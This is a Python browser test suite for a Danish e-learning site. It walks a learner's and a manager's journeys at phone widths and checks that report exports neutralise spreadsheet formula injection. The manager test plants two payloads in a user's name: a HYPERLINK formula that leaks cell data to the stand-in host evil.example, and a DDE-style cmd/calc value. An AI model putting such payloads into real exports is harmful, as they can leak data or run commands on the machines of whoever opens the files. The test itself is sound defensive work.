"""Issue 16's two walks at 375 px in Danish, on the demo: the learner's (catalogue, search,
course, lessons, quiz failed then passed, video guide by keyboard with Danish and English captions
and full screen, certificate PDF) and the manager's (dashboard, trend chart, people, person, every
export with its filter and the formula payloads inert). Every page fits 320 px and passes axe.
"""

import csv
import io
import re
import zipfile

import pytest
from openpyxl import load_workbook

from cms.demo import DEMO_PASSWORD
from quizzes.demo import BANK
from tests.browser.conftest import (
    PHONE,
    answer_quiz,
    assert_accessible,
    assert_no_horizontal_scroll,
    browser_page,
    log_in,
    wait_for,
)
from tests.pdf_text import pdf_text

pytestmark = pytest.mark.browser

DONE_BUTTON = "form[action*='/faerdig/'] button[type=submit]"
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"Se status")'


def fits(page):
    """One h1, no sideways scrolling at 375 px nor at 320 px, and axe finds nothing."""
    assert page.locator("h1").count() == 1, page.url
    assert_no_horizontal_scroll(page)
    page.set_viewport_size({"width": 320, "height": PHONE["height"]})
    assert_no_horizontal_scroll(page)
    page.set_viewport_size(PHONE)
    assert_accessible(page)


def search(page, words):
    page.locator("input[name=q]").fill(words)
    with page.expect_navigation():
        page.locator(".filters button[type=submit]").click()
    return page.locator(".card__title").all_inner_texts()


def take_km_quiz(page, base, quiz, right):
    page.goto(f"{base}/quizzes/{quiz.pk}/")
    with page.expect_navigation():
        page.locator("form[action$='/start/'] button[type=submit]").click()
    answer_quiz(page, BANK["km"][1], right)
    with page.expect_navigation():
        page.locator(".quiz-form button[type=submit]").click()
    assert "/result/" in page.url, page.locator("main").inner_text()


def test_the_learner_walk_on_a_phone(chromium, live_server, demo_site):
    from cms.models import CoursePage, VideoGuidePage
    from quizzes.models import Quiz

    base = live_server.url
    # The walk fails and then passes at once: no waiting time between attempts here.
    quiz = Quiz.objects.get(title="Korrespondancemeddelelsen (KM)")
    Quiz.objects.filter(pk=quiz.pk).update(cooldown_minutes=0)
    with browser_page(chromium, PHONE) as page:
        log_in(page, base, "mette@example.org", DEMO_PASSWORD)
        assert "Du er logget ind som" in page.locator("main").inner_text()
        page.locator(".site-nav a[href$='/kurser/']").click()
        page.wait_for_load_state()
        fits(page)

        # Search finds a word inside a compound and the start of a longer word.
        titles = search(page, "udskrivning")
        assert any("udskrivningskonference" in t for t in titles), titles
        fits(page)
        titles = search(page, "Korrespondance")
        assert any(t.startswith("Korrespondancemeddelelsen") for t in titles), titles

        # The course: start it, mark the first lesson done, and go on to the next.
        course = CoursePage.objects.get(slug="korrespondancemeddelelsen")
        with page.expect_navigation():
            page.locator(f".card__title a[href$='{course.url}']").click()
        fits(page)
        with page.expect_navigation():
            page.locator("form[action*='/laering/start/'] button").click()
        lessons = list(course.lessons())
        assert page.locator("h1").inner_text() == lessons[0].title
        fits(page)
        with page.expect_navigation():
            page.locator(DONE_BUTTON).click()
        assert page.locator("h1").inner_text() == lessons[1].title
        assert "Lektionen er markeret som færdig" in page.locator("main").inner_text()

        # The quiz: failed, then passed.
        take_km_quiz(page, base, quiz, right=False)
        assert page.locator(".quiz-score--failed").is_visible()
        fits(page)
        take_km_quiz(page, base, quiz, right=True)
        assert page.locator(".quiz-score--passed").is_visible()
        fits(page)

        # A video guide by keyboard: the skip link, Play two Tab presses from the top.
        guide = VideoGuidePage.objects.get(slug="video-mitid-erhverv")  # Danish and English
        page.goto(f"{base}{guide.url}")
        page.wait_for_selector("[data-video-player][data-ready] .video-controls:not([hidden])")
        fits(page)
        page.keyboard.press("Tab")
        page.keyboard.press("Tab")
        assert page.evaluate("document.activeElement.textContent.trim()") == "Gå til videoen"
        page.keyboard.press("Enter")
        page.keyboard.press("Tab")
        assert page.evaluate("document.activeElement.matches('[data-action=play]')")
        # "Hastighed" stays one word on a phone.
        speed_label = page.locator(".video-controls__select label").first
        assert speed_label.inner_text() == "Hastighed"
        assert speed_label.evaluate("label => label.getClientRects().length") == 1
        # Captions: Danish by default, English can be chosen, and off.
        captions = page.locator("[data-control=captions]")
        options = captions.locator("option").all_inner_texts()
        assert len(options) == 3 and options[0] == "Fra", options
        modes = "() => [...document.querySelector('video').textTracks].filter(t => t.kind === 'captions').map(t => t.language + ':' + t.mode)"  # noqa: E501
        captions.focus()
        captions.select_option("en")
        assert "en:showing" in page.evaluate(modes) and "da:showing" not in page.evaluate(modes)
        captions.select_option("da")
        assert "da:showing" in page.evaluate(modes) and "en:showing" not in page.evaluate(modes)
        # Full screen, with the keyboard.
        page.locator("[data-action=fullscreen]").focus()
        page.keyboard.press("Enter")
        assert wait_for(lambda: page.evaluate("document.fullscreenElement !== null"), timeout=5), (
            "the player did not go full screen"
        )
        # The button says so once the fullscreenchange event has reached the player.
        assert wait_for(
            lambda: (
                page.locator("[data-action=fullscreen]").get_attribute("aria-pressed") == "true"
            ),
            timeout=5,
        )
        page.evaluate("document.exitFullscreen()")

        # The course completed: the rest of its lessons marked done (the quiz lesson is done by
        # the pass above); its certificate names the competence, issuer and validity.
        page.goto(f"{base}{course.url}")
        while page.locator("section.missing a").count():
            with page.expect_navigation():
                page.locator("section.missing a").first.click()
            with page.expect_navigation():
                page.locator(DONE_BUTTON).click()
            page.goto(f"{base}{course.url}")
        certificate = page.locator("a[href*='/laering/bevis/']")
        assert certificate.is_visible(), page.locator("main").inner_text()
        fits(page)
        text = pdf_text(page.request.get(f"{base}{certificate.get_attribute('href')}").body())
        assert "Mette Nielsen" in text and "Kursusbevis" in text
        assert "Kompetence: " in text and "Udstedt af " in text
        assert "Gyldigt til" in text or "Gyldigt uden slutdato" in text

        page.goto(f"{base}/laering/min-laering/")
        fits(page)


def _someone_in_hannes_unit():
    from learning.organisations.models import JobAssignment, ManagerScope

    scope = ManagerScope.objects.filter(manager__email="hanne@example.org").first()
    return (
        JobAssignment.objects.active_on()
        .filter(unit__path__startswith=scope.unit.path)
        .exclude(user__email="hanne@example.org")
        .order_by("user__last_name", "user__first_name")
        .first()
        .user
    )


def _exports(page, base):
    return {
        link.inner_text().split()[0].split("-")[0]: f"{base}{link.get_attribute('href')}"
        for link in page.locator(".report-exports a").all()
    }


def _csv_lines(body):
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig")), delimiter=";"))


def test_the_manager_walk_on_a_phone(chromium, live_server, demo_site):
    base = live_server.url
    payload_person = _someone_in_hannes_unit()
    payload_person.first_name = HYPERLINK
    payload_person.last_name = "@SUM(1+1)*cmd|' /C calc'!A0"
    payload_person.save()
    with browser_page(chromium, PHONE) as page:
        log_in(page, base, "hanne@example.org", DEMO_PASSWORD)
        page.locator(".site-nav a[href$='/manage/coverage/']").click()
        page.wait_for_load_state()
        fits(page)

        # The trend chart: a point per month, each where its number says.
        shares = [
            cells[2]
            for cells in (
                row.locator("th, td").all_inner_texts()
                for row in page.locator("#trend tbody tr").all()
            )
            if cells[2] != "–"
        ]
        points = page.locator("circle.chart__point")
        assert points.count() == len(shares) > 0
        for point, share in zip(points.all(), shares, strict=True):
            value = int(point.get_attribute("data-value"))
            assert value == int(share)
            assert float(point.get_attribute("cy")) == round(16 + 188 * (100 - value) / 100, 1)
            assert point.bounding_box() is not None  # drawn, not dropped as invalid

        # Every manager page is linked from the dashboard.
        nav = page.locator("nav.manager-nav")
        for name in ("Mine medarbejdere", "Kompetencekrav", "Stedfortrædere"):
            with page.expect_navigation():
                nav.get_by_role("link", name=name).click()
            fits(page)
            nav = page.locator("nav.manager-nav")
        with page.expect_navigation():
            nav.get_by_role("link", name="Kompetencedækning").click()

        # Every dashboard export states its filter.
        page.goto(f"{base}/manage/coverage/?status=overdue")
        fits(page)
        exports = _exports(page, base)
        assert set(exports) == {"CSV", "Excel", "PDF"}
        stated = "Filter: Status: Overskredet"
        assert _csv_lines(page.request.get(exports["CSV"]).body())[1] == [stated]
        workbook = load_workbook(io.BytesIO(page.request.get(exports["Excel"]).body()))
        assert workbook.active["A2"].value == stated
        assert stated in pdf_text(page.request.get(exports["PDF"]).body())

        # Drill down to the people and one person.
        page.goto(f"{base}/manage/coverage/")
        with page.expect_navigation():
            page.locator("#coverage tbody th a").first.click()
        fits(page)
        with page.expect_navigation():
            page.locator("a.button[href*='/people/']").click()
        fits(page)
        people = page.locator("#people")
        assert re.fullmatch(r"I alt: \d+ personer", people.locator("tfoot th").first.inner_text())
        exports = _exports(page, base)
        with page.expect_navigation():
            people.locator("tbody th a").first.click()
        fits(page)

        # The people exports: the formula payloads arrive as inert text.
        lines = _csv_lines(page.request.get(exports["CSV"]).body())
        assert lines[1] == ["Filter: ingen"]
        names = [line[0] for line in lines[4:]]
        assert any(name.startswith("'" + HYPERLINK) for name in names), names
        body = page.request.get(exports["Excel"]).body()
        with zipfile.ZipFile(io.BytesIO(body)) as archive:
            assert "<f>" not in archive.read("xl/worksheets/sheet1.xml").decode()
        cells = [c for row in load_workbook(io.BytesIO(body)).active.iter_rows() for c in row]
        named = [c for c in cells if isinstance(c.value, str) and c.value.startswith(HYPERLINK)]
        assert named and all(c.data_type == "s" for c in named)
        assert "Filter: ingen" in pdf_text(page.request.get(exports["PDF"]).body())
